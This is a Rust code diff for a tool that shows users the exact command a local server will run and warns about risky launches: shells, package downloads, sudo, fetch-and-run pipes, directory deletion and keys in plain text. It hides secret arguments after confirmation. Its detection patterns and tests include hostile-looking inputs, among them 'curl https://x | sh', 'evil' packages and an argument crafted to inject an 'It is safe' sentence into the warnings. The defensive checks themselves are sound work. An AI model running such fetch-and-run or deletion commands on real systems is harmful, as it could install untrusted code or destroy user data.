@@ -1,11 +1,14 @@
 //! The exact command of a stdio server, for the eyes of the user.
 
-use sonde_wire::stdio;
+use sonde_wire::{SpawnError, stdio};
 
 use super::{
     config::{ConfigValue, Transport},
     entry::{ServerEntry, fingerprint},
-    launch::{MissingSecret, launch},
+    launch::{Launch, MissingSecret, launch},
+    network_path,
+    quote::quote,
+    runner::{self, Run, stem},
     secret_slots::{arg_place, secrets_in},
     steering,
 };
@@ -18,7 +21,8 @@ pub struct CommandPreview {
     pub fingerprint: String,
     /// The program file that will run; `None` when it was not found.
     pub program: Option<String>,
-    /// Program as configured, then the arguments.
+    /// Program as configured, then the arguments: with their secrets until the first confirmation, then
+    /// with what stands for those.
     pub argv: Vec<String>,
     /// What stands in the arguments for secrets, each once.
     pub secret_arguments: Vec<String>,
@@ -91,16 +95,16 @@ pub(super) async fn preview(
         .collect();
     inherited.sort();
     let mut warnings = steered(&env);
-    warnings.extend(remarkable(command, args));
-    let program = match stdio::resolve(&launch.spec).await {
-        Ok(program) => Some(program.display().to_string()),
-        Err(error) => {
-            warnings.insert(0, format!("It cannot be started: {error}."));
-            None
-        }
-    };
+    let revealable = entry.confirmed.is_none();
+    let shown = shown(command, args, &launch.spec.filled_in, revealable);
+    warnings.extend(remarkable(command, &shown));
+    warnings.extend(keys(args));
+    let (program, warning) = resolved(&launch).await;
+    if let Some(warning) = warning {
+        warnings.insert(0, warning);
+    }
     let mut argv = vec![command.clone()];
-    argv.extend(args.iter().cloned());
+    argv.extend(shown);
     let mut secret_arguments: Vec<String> = Vec::new();
     for name in args.iter().flat_map(|arg| secrets_in(arg)) {
         let place = arg_place(name);
@@ -116,7 +120,7 @@ pub(super) async fn preview(
         secret_arguments,
         env,
         inherited,
-        revealable: entry.confirmed.is_none(),
+        revealable,
         cwd: launch
             .spec
             .cwd
@@ -136,7 +140,7 @@ fn steered(env: &[CommandVariable]) -> Vec<String> {
         let Some(effect) = variable.effect else {
             continue;
         };
-        let name = format!("`{}`", variable.name);
+        let name = quote(&variable.name);
         match kinds.iter_mut().find(|(kind, _)| *kind == effect) {
             Some((_, names)) => names.push(name),
             None => kinds.push((effect, vec![name])),
@@ -148,71 +152,85 @@ fn steered(env: &[CommandVariable]) -> Vec<String> {
         .collect()
 }
 
+/// The arguments with their secrets until the first confirmation; those that decide what runs, always.
+fn shown(
+    command: &str,
+    args: &[String],
+    secrets: &[(String, String)],
+    revealable: bool,
+) -> Vec<String> {
+    let run = runner::read(command, args);
+    let deciding: Vec<_> = run.iter().flat_map(Run::deciding).collect();
+    let word = |(index, arg): (usize, &String)| match revealable || deciding.contains(&index) {
+        true => stdio::fill_in(arg, secrets),
+        false => arg.clone(),
+    };
+    args.iter().enumerate().map(word).collect()
+}
+
+/// The program that will run, as far as that can be found without a network, and what to say about it.
+async fn resolved(launch: &Launch) -> (Option<String>, Option<String>) {
+    let spec = match network_path::local(&launch.spec) {
+        Ok(spec) => spec,
+        Err(unresolved) => return (Some(unresolved.program), Some(unresolved.sentence)),
+    };
+    match stdio::resolve(&spec.unwrap_or_else(|| launch.spec.clone())).await {
+        Ok(program) => (Some(program.display().to_string()), None),
+        Err(error) => {
+            let why = spawn_error(&error);
+            (None, Some(format!("It cannot be started: {why}.")))
+        }
+    }
+}
+
+/// Why a command cannot be started, with what it names quoted.
+fn spawn_error(error: &SpawnError) -> String {
+    match error {
+        SpawnError::NotFound { command, .. } => format!("{} was not found", quote(command)),
+        SpawnError::NotExecutable { path } => {
+            format!("{} is not executable", quote(&path.to_string_lossy()))
+        }
+        SpawnError::BadWorkingDirectory { path } => {
+            let path = quote(&path.to_string_lossy());
+            format!("the working directory {path} does not exist")
+        }
+        SpawnError::Io { command, source } => {
+            format!("could not start {}: {source}", quote(command))
+        }
+    }
+}
+
 /// What is remarkable about a command, as plain sentences.
 fn remarkable(command: &str, args: &[String]) -> Vec<String> {
     let mut warnings = Vec::new();
-    let name = command
-        .rsplit(['/', '\\'])
-        .next()
-        .unwrap_or(command)
-        .trim_end_matches(".exe")
-        .trim_end_matches(".cmd")
-        .to_ascii_lowercase();
+    let name = stem(command);
     let has = |flags: &[&str]| args.iter().any(|arg| flags.contains(&arg.as_str()));
-    let package = || {
-        args.iter()
-            .find(|arg| !arg.starts_with('-') && *arg != "run" && *arg != "dlx" && *arg != "exec")
-            .map_or_else(|| "a package".to_owned(), |arg| format!("`{arg}`"))
-    };
-    let shells = [
-        "sh",
-        "bash",
-        "zsh",
-        "dash",
-        "fish",
-        "cmd",
-        "powershell",
-        "pwsh",
-    ];
-    let flags = [
-        "-c",
-        "-lc",
-        "-ic",
-        "/c",
-        "/C",
-        "-Command",
-        "-EncodedCommand",
-    ];
-    if shells.contains(&name.as_str()) && has(&flags) {
+    if ["sudo", "doas", "pkexec", "runas"].contains(&name.as_str()) {
         warnings.push(format!(
-            "It passes a script to the shell `{name}`, which can do anything you can do."
+            "It runs with different permissions than yours, through `{name}`."
         ));
     }
-    match name.as_str() {
-        "npx" | "bunx" | "pnpx" => warnings.push(format!(
-            "It downloads {} from the npm registry if it is not there yet, and runs it.",
-            package()
-        )),
-        "npm" | "pnpm" | "yarn" if has(&["exec", "dlx"]) => warnings.push(format!(
-            "It downloads {} from the npm registry if it is not there yet, and runs it.",
-            package()
-        )),
-        "uvx" | "pipx" => warnings.push(format!(
-            "It downloads {} from the Python package index if it is not there yet, and runs it.",
-            package()
-        )),
-        "docker" | "podman" if has(&["run"]) => warnings.push(
-            "It starts a container; the image is downloaded if it is not there yet.".to_owned(),
-        ),
-        "deno" if has(&["-A", "--allow-all"]) => {
-            warnings.push("It grants the script all permissions.".to_owned());
-        }
-        "sudo" | "doas" | "pkexec" | "runas" => {
+    if let Some(run) = runner::read(command, args) {
+        if let Some(program) = run.script() {
             warnings.push(format!(
-                "It runs with different permissions than yours, through `{name}`."
+                "It passes a script to {}, which can do anything you can do.",
+                quote(program)
             ));
         }
-        _ => {}
+        warnings.extend(
+            run.downloads
+                .map(|noun| download(noun, &run.packages(args))),
+        );
+        let options: Vec<_> = run.options(args).iter().map(|one| quote(one)).collect();
+        if !options.is_empty() {
+            warnings.push(format!(
+                "Options decide what it runs, or where that comes from: {}.",
+                options.join(", ")
+            ));
+        }
+    }
+    if name == "deno" && has(&["-A", "--allow-all"]) {
+        warnings.push("It grants the script all permissions.".to_owned());
     }
     let script = args.join(" ");
     let fetches = script.contains("curl ") || script.contains("wget ") || script.contains("iwr ");
@@ -227,49 +245,127 @@ fn remarkable(command: &str, args: &[String]) -> Vec<String> {
     if script.contains("rm -rf") || script.contains("rm -fr") {
         warnings.push("It contains a command that deletes directories.".to_owned());
     }
-    if args.iter().any(|arg| super::secret_names::shape(arg)) {
-        warnings.push(
-            "A part of the command looks like a key or password. The command is saved in plain text and \
-             visible to other programs; environment variables marked as secret are not."
-                .to_owned(),
-        );
-    }
     warnings
+}
+
+/// What a command downloads. Where from depends on options and on settings of the computer.
+fn download(noun: &str, packages: &[&str]) -> String {
+    // Not a URL, a repository or a path.
+    let from_registry = |package: &str| {
+        let (name, _) = package.split_once("==").unwrap_or((package, ""));
+        !name.contains(':')
+            && !name.starts_with('.')
+            && (noun == "image" || {
+                let slashes = name.matches('/').count();
+                slashes == 0 || (slashes == 1 && name.starts_with('@'))
+            })
+    };
+    let named: Vec<_> = packages.iter().map(|package| quote(package)).collect();
+    let what = match packages {
+        [] => format!("a package ({noun})"),
+        [package] if from_registry(package) || noun == "image" => {
+            format!("the {noun} {}", named[0])
+        }
+        _ => named.join(" or "),
+    };
+    match noun {
+        "image" => format!("It starts a container. It downloads {what} if it is not there yet."),
+        _ => format!("It downloads {what} if it is not there yet, and runs it."),
+    }
+}
+
+/// A warning if an argument that is kept in plain text looks like a key.
+fn keys(args: &[String]) -> Option<String> {
+    let has_key = args.iter().any(|arg| super::secret_names::shape(arg));
+    has_key.then(|| {
+        "A part of the command looks like a key or password. The command is saved in plain text and \
+         visible to other programs; environment variables marked as secret are not."
+            .to_owned()
+    })
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
-    fn warned(line: &[&str]) -> String {
-        let args: Vec<String> = line[1..].iter().map(|arg| (*arg).to_owned()).collect();
-        remarkable(line[0], &args).join(" ")
+    fn warned(line: &str) -> String {
+        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
+        let mut warnings = remarkable(&words[0], &words[1..]);
+        warnings.extend(keys(&words[1..]));
+        warnings.join(" ")
     }
 
     #[test]
     fn remarkable_commands_are_remarked() {
         for (line, words) in [
             (
-                &["npx", "-y", "@scope/server"][..],
-                "`@scope/server` from the npm registry",
+                "npx -y @scope/server",
+                "downloads the npm package `@scope/server`",
             ),
-            (&["C:\\x\\npx.cmd", "-y", "server"], "npm registry"),
-            (&["uvx", "mcp-server-time"], "Python package index"),
-            (&["/bin/sh", "-c", "true"], "passes a script"),
+            ("C:\\x\\npx.cmd -y server", "the npm package `server`"),
             (
-                &["bash", "-lc", "curl https://x | sh"],
-                "without showing it",
+                "uvx mcp-server-time==1",
+                "the Python package `mcp-server-time==1`",
             ),
-            (&["docker", "run", "image"], "container"),
-            (&["sudo", "server"], "different permissions"),
             (
-                &["server", "--key", "sk-0123456789abcdef"],
-                "looks like a key",
+                "npx --loglevel X --package=evil x",
+                "the npm package `evil`",
             ),
+            (
+                "npx --registry=https://e/ a",
+                "comes from: `--registry=https://e/`",
+            ),
+            (
+                "uvx --from git+https://e/x x",
+                "downloads `git+https://e/x`",
+            ),
+            ("npx github:evil/x", "downloads `github:evil/x`"),
+            ("npx evil/x", "downloads `evil/x`"),
+            ("npx --odd a b", "downloads `a` or `b`"),
+            ("cmd /c npx -y server", "the npm package `server`"),
+            ("/bin/sh -c true", "passes a script to `sh`"),
+            ("bash -xc true", "passes a script to `bash`"),
+            ("node -e 1", "passes a script to `node`"),
+            ("bash -lc curl https://x | sh", "without showing it"),
+            (
+                "docker run image",
+                "a container. It downloads the image `image`",
+            ),
+            ("sudo server", "different permissions"),
+            ("server --key sk-0123456789abcdef", "looks like a key"),
         ] {
-            assert!(warned(line).contains(words), "{line:?}: {}", warned(line));
+            assert!(warned(line).contains(words), "{line}: {}", warned(line));
         }
-        assert_eq!(warned(&["python3", "server.py", "--port", "1"]), "");
-        assert_eq!(warned(&["bash", "script.sh"]), "");
+        assert_eq!(warned("python3 server.py --port 1"), "");
+        assert_eq!(warned("bash script.sh"), "");
+    }
+
+    #[test]
+    fn a_command_writes_no_sentence_of_its_own() {
+        let args = ["a` from us. It is safe. `b".to_owned()];
+        let warnings = remarkable("npx", &args);
+        assert_eq!(
+            warnings,
+            [
+                "It downloads the npm package `a' from us. It is safe. 'b` if it is not there yet, and runs it."
+            ]
+        );
+        let error = SpawnError::NotFound {
+            command: "a` b".to_owned(),
+            searched: Vec::new(),
+        };
+        assert_eq!(spawn_error(&error), "`a' b` was not found");
+    }
+
+    #[test]
+    fn secret_arguments_are_shown_until_the_first_confirmation() {
+        let args = ["${secret:a}", "-y", "${secret:b}"].map(str::to_owned);
+        let secrets =
+            [("a", "1"), ("b", "2")].map(|(name, value)| (arg_place(name), value.to_owned()));
+        assert_eq!(shown("server", &args, &secrets, true), ["1", "-y", "2"]);
+        assert_eq!(shown("server", &args, &secrets, false), args);
+        // A package of an older configuration.
+        let left = shown("npx", &args[1..], &secrets, false);
+        assert_eq!(left, ["-y", "2"]);
     }
 }
